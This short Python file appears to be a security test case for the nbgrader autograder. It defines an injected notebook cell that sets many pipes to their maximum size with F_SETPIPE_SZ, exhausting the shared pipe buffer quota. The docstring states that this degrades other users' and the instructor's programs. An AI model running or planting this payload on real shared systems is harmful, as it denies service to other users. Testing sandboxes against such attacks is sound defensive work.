"""Makes pipes as large as they get, which leaves those of everyone else with a page or two.

Stock nbgrader: the instructor's own programs among them.
"""

CELLS = {
    "extra first cell": """
import fcntl
import os

taken = 0
try:
    for _ in range(50):
        reader, writer = os.pipe()
        taken += fcntl.fcntl(writer, 1031, 1 << 20)  # F_SETPIPE_SZ
except OSError as error:
    print(error)
if taken:
    print("STOLEN", taken)
"""
}
